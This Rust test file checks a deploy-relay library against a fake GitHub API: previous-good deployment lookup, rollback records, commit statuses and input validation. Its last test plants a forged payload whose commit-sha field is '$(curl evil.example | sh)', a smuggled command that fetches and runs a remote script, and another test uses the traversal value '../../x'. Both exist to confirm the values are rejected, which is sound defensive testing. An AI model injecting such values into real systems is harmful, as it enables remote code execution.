//! Records against the fake GitHub: the typed calls, the rule in a staging
//! and a production environment (where `auto_inactive` differs), and the
//! commit status on the app commit.

#![allow(clippy::unwrap_used)]

mod fleet;

use relay_deployments::{Finish, NewRecord, Payload, Record, TASK};
use relay_fakes::{DEFAULT_TOKEN, FakeGitHub};
use relay_github::{DeploymentState, GitHub};
use relay_runtime::{Console, Env, RepoName, Secret, vars};
use relay_testkit::openapi::{OpenApi, assert_requests_documented};

const DEPLOY: &str = "octo/deploy";
const APP: &str = "octo/app";
const REF: &str = "1111111111111111111111111111111111111111";
const A: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const B: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
const C: &str = "cccccccccccccccccccccccccccccccccccccccc";
const D: &str = "dddddddddddddddddddddddddddddddddddddddd";

fn fake() -> FakeGitHub {
    let gh = FakeGitHub::start();
    gh.repo(DEPLOY, "main");
    gh.repo(APP, "main");
    gh
}

fn client(gh: &FakeGitHub) -> GitHub {
    let env = Env::from_pairs([
        (vars::GITHUB_API_URL, gh.url()),
        (vars::GITHUB_REPOSITORY, DEPLOY),
        (vars::DEPLOY_RELAY_BACKOFF_SCALE, "0.01"),
    ]);
    GitHub::new(&env, Console::capture().0, Some(Secret::new(DEFAULT_TOKEN))).unwrap()
}

/// One runtime for every test: a client's pooled connections belong to the
/// runtime that opened them, and reusing one after its runtime is gone can
/// hang until the request times out.
fn rt() -> &'static tokio::runtime::Runtime {
    static RT: std::sync::OnceLock<tokio::runtime::Runtime> = std::sync::OnceLock::new();
    RT.get_or_init(|| {
        tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap()
    })
}
fn repo() -> RepoName {
    RepoName::parse(DEPLOY).unwrap()
}

fn payload(sha: &str) -> Payload {
    Payload {
        repository: APP.into(),
        sha: sha.into(),
        images: [(
            "api_image".to_owned(),
            format!("ghcr.io/octo/app/api:{}", &sha[..7]),
        )]
        .into(),
        dispatch_id: format!("dispatch-{}", &sha[..1]),
        ..Payload::default()
    }
}

/// Records a deploy of `sha` to `env` that ends in `end`; returns its id.
fn deploy(gh: &GitHub, env: &str, p: &Payload, end: DeploymentState) -> u64 {
    let rt = rt();
    let repo = repo();
    let started = rt
        .block_on(relay_deployments::start(
            gh,
            &NewRecord {
                repo: &repo,
                environment: env,
                git_ref: REF,
                payload: p,
                description: None,
                environment_url: Some("https://staging.example.com"),
                log_url: Some("https://github.com/octo/deploy/actions/runs/1"),
                production_environment: None,
                transient_environment: false,
            },
        ))
        .unwrap();
    let id = started.record.deployment.id;
    rt.block_on(relay_deployments::finish(
        gh,
        &Finish {
            repo: &repo,
            id,
            environment: Some(env),
            state: end,
            description: None,
            environment_url: None,
            log_url: None,
        },
    ))
    .unwrap();
    id
}

fn previous(gh: &GitHub, env: &str, replaced: &str) -> Option<Record> {
    rt().block_on(relay_deployments::find_previous_good(
        gh,
        &repo(),
        env,
        Some(APP),
        replaced,
    ))
    .unwrap()
}

fn sha_of(r: Option<Record>) -> Option<String> {
    r.map(|r| r.payload.sha)
}

#[test]
fn previous_good_is_the_same_in_staging_and_production() {
    use DeploymentState::{Failure, Success};
    let fake = fake();
    let gh = client(&fake);
    let mut ids = std::collections::BTreeMap::new();
    for env in ["staging", "production"] {
        let a = deploy(&gh, env, &payload(A), Success);
        let b = deploy(&gh, env, &payload(B), Success);
        let c = deploy(&gh, env, &payload(C), Success);
        // C's health window fails after it was marked success.
        rt().block_on(relay_deployments::finish(
            &gh,
            &Finish {
                repo: &repo(),
                id: c,
                environment: None,
                state: Failure,
                description: None,
                environment_url: None,
                log_url: None,
            },
        ))
        .unwrap();
        ids.insert(env, (a, b, c));
    }
    let (sa, sb, _) = ids["staging"];
    let (pa, pb, _) = ids["production"];
    assert_eq!(
        fake.deployment_states(sa),
        ["in_progress", "success", "inactive"],
        "GitHub's auto_inactive"
    );
    assert_eq!(
        fake.deployment_states(sb),
        ["in_progress", "success", "inactive"]
    );
    assert_eq!(
        fake.deployment_states(pa),
        ["in_progress", "success"],
        "production keeps its successes"
    );
    assert_eq!(fake.deployment_states(pb), ["in_progress", "success"]);
    for env in ["staging", "production"] {
        assert_eq!(
            sha_of(previous(&gh, env, C)).as_deref(),
            Some(B),
            "{env}: not the failed C"
        );
        assert_eq!(sha_of(previous(&gh, env, B)).as_deref(), Some(A), "{env}");
        assert_eq!(
            sha_of(previous(&gh, env, &C[..7])).as_deref(),
            Some(B),
            "{env}: a short sha"
        );
    }
    // GitHub's own deployment of an `environment:` job, newer and successful,
    // is not a record — though in staging its success marks ours inactive.
    for env in ["staging", "production"] {
        fake.environment_job(DEPLOY, env, D, "success");
        assert_eq!(sha_of(previous(&gh, env, C)).as_deref(), Some(B), "{env}");
    }
    // A rollback to B is a record of its own, and good.
    for env in ["staging", "production"] {
        let rollback = Payload {
            rollback: true,
            reason: "health window failed".into(),
            ..payload(B)
        };
        let id = deploy(&gh, env, &rollback, Success);
        let got = previous(&gh, env, C).unwrap();
        assert_eq!(
            (got.deployment.id, got.payload.rollback),
            (id, true),
            "{env}"
        );
        assert_eq!(sha_of(previous(&gh, env, B)).as_deref(), Some(A), "{env}");
        let newest = rt()
            .block_on(relay_deployments::newest(&gh, &repo(), env, None))
            .unwrap()
            .unwrap();
        assert_eq!(newest.deployment.id, id);
    }
    assert_eq!(
        previous(&gh, "qa", C),
        None,
        "an environment with no records"
    );
}

#[test]
fn a_record_is_what_spec_says_and_every_request_is_documented() {
    let fake = fake();
    let gh = client(&fake);
    let id = deploy(&gh, "staging", &payload(A), DeploymentState::Success);
    let d = &fake.deployments(DEPLOY)[0];
    assert_eq!(d["id"], id);
    assert_eq!(d["task"], TASK);
    assert_eq!(d["ref"], REF, "the deploy repo's own commit");
    assert_eq!(d["environment"], "staging");
    assert_eq!(d["description"], "Deploying aaaaaaa of octo/app");
    assert_eq!(
        d["payload"],
        serde_json::json!({
            "repository": APP, "sha": A, "images": {"api_image": "ghcr.io/octo/app/api:aaaaaaa"},
            "dispatch_id": "dispatch-a", "rollback": false, "reason": "", "provenance": null,
        })
    );
    let posts: Vec<_> = fake
        .requests()
        .into_iter()
        .filter(|r| r.method == "POST")
        .collect();
    let create = posts
        .iter()
        .find(|r| r.path == "/repos/octo/deploy/deployments")
        .unwrap();
    let body = create.body.as_ref().unwrap();
    assert_eq!(
        (&body["auto_merge"], &body["required_contexts"]),
        (&serde_json::json!(false), &serde_json::json!([]))
    );
    let statuses: Vec<_> = posts
        .iter()
        .filter(|r| r.path.ends_with("/statuses"))
        .collect();
    assert_eq!(statuses[0].body.as_ref().unwrap()["state"], "in_progress");
    assert_eq!(
        statuses[0].body.as_ref().unwrap()["log_url"],
        "https://github.com/octo/deploy/actions/runs/1"
    );
    assert_eq!(statuses[1].body.as_ref().unwrap()["state"], "success");
    assert_requests_documented(&fake);
}

#[test]
fn finishing_what_is_not_a_record_is_refused() {
    let fake = fake();
    let gh = client(&fake);
    let theirs = fake.environment_job(DEPLOY, "production", A, "success");
    let e = rt()
        .block_on(relay_deployments::finish(
            &gh,
            &Finish {
                repo: &repo(),
                id: theirs,
                environment: None,
                state: DeploymentState::Success,
                description: None,
                environment_url: None,
                log_url: None,
            },
        ))
        .unwrap_err();
    assert!(
        e.to_string()
            .contains("is not a deploy-relay record (task `deploy`)"),
        "{e}"
    );
    assert_eq!(
        fake.deployment_states(theirs),
        ["queued", "in_progress", "success"],
        "left alone"
    );
    let e = rt()
        .block_on(relay_deployments::finish(
            &gh,
            &Finish {
                repo: &repo(),
                id: 4242,
                environment: None,
                state: DeploymentState::Success,
                description: None,
                environment_url: None,
                log_url: None,
            },
        ))
        .unwrap_err();
    assert!(
        e.to_string()
            .contains("couldn't read deployment 4242 of `octo/deploy`: GitHub answered 404"),
        "{e}"
    );
}

#[test]
fn the_walk_reads_statuses_only_of_candidates() {
    let fake = fake();
    let gh = client(&fake);
    deploy(&gh, "staging", &payload(A), DeploymentState::Success);
    for _ in 0..5 {
        deploy(&gh, "staging", &payload(C), DeploymentState::Failure);
    }
    let before = fake.requests().len();
    assert_eq!(sha_of(previous(&gh, "staging", C)).as_deref(), Some(A));
    let reads: Vec<String> = fake.requests()[before..]
        .iter()
        .map(|r| r.path.clone())
        .collect();
    assert_eq!(reads.len(), 2, "the list, then A's statuses: {reads:?}");
}

#[test]
fn the_app_commit_shows_the_deploy() {
    let fake = fake();
    let gh = client(&fake);
    for (state, cancelled, want, said) in [
        (
            DeploymentState::InProgress,
            false,
            "pending",
            "Deploying to staging",
        ),
        (
            DeploymentState::Success,
            false,
            "success",
            "Deployed to staging",
        ),
        (
            DeploymentState::Failure,
            false,
            "failure",
            "Deploy to staging failed",
        ),
        (
            DeploymentState::Error,
            true,
            "error",
            "Deploy to staging was cancelled",
        ),
    ] {
        let context = rt()
            .block_on(relay_deployments::set_commit_status(
                &gh,
                &payload(A),
                "staging",
                &state,
                cancelled,
                Some("https://github.com/octo/deploy/actions/runs/1"),
            ))
            .unwrap();
        assert_eq!(context, "deploy/staging");
        let last = fake.created_statuses(APP, A).pop().unwrap();
        assert_eq!(
            (last["context"].as_str(), last["state"].as_str()),
            (Some("deploy/staging"), Some(want))
        );
        assert_eq!(last["description"], said);
    }
    let bad = Payload {
        repository: "../../x".into(),
        ..payload(A)
    };
    let e = rt()
        .block_on(relay_deployments::set_commit_status(
            &gh,
            &bad,
            "staging",
            &DeploymentState::Success,
            false,
            None,
        ))
        .unwrap_err();
    assert!(
        e.to_string()
            .contains("`../../x`, which is not `owner/repo`"),
        "{e}"
    );
    if let Some(api) = OpenApi::load() {
        api.assert_documented(&fake.requests());
        let answer = &fake.created_statuses(APP, A)[0];
        api.check_response("POST", &format!("/repos/{APP}/statuses/{A}"), 201, answer)
            .unwrap();
    }
}

#[test]
fn a_record_shaped_deployment_whose_sha_is_no_commit_is_no_target() {
    let fake = fake();
    let gh = client(&fake);
    deploy(&gh, "staging", &payload(A), DeploymentState::Success);
    let rt = rt();
    let forged =
        serde_json::json!({"repository": APP, "sha": "$(curl evil.example | sh)", "images": {}});
    let d = rt
        .block_on(gh.create_deployment(
            &repo(),
            &relay_github::NewDeployment {
                git_ref: REF,
                task: TASK,
                environment: "staging",
                payload: &forged,
                description: "",
                required_contexts: &[],
                production_environment: None,
                transient_environment: false,
            },
        ))
        .unwrap();
    rt.block_on(gh.create_deployment_status(
        &repo(),
        d.id,
        &relay_github::NewDeploymentStatus {
            state: DeploymentState::Success,
            description: "",
            environment_url: None,
            log_url: None,
            auto_inactive: None,
        },
    ))
    .unwrap();
    assert_eq!(sha_of(previous(&gh, "staging", C)).as_deref(), Some(A));
    let all = rt
        .block_on(relay_deployments::records(&gh, &repo(), None, 10))
        .unwrap();
    assert_eq!(all.len(), 1, "not a record at all");
}
